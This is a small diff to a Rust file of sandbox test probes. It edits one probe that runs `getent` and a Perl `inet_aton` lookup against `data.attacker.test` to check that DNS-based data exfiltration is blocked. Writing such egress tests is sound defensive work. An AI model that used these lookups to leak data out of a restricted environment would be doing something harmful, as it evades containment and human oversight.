@@ -53,7 +53,8 @@ pub(super) const PROBES: &[Probe] = &[
         (Network, "name-lookup", EMPTY),
         "look a name up, which would carry data out by itself",
         "getent ahosts some-data.attacker.test && echo THROUGH; \
-         perl -MSocket -e 'print inet_aton(q(data.test)) ? qq(THROUGH\\n) : qq(no name\\n)'",
+         perl -MSocket -e 'print inet_aton(q(data.attacker.test)) \
+         ? qq(THROUGH\\n) : qq(no name\\n)'",
         &["no name"],
     ),
     works_outside(probe(
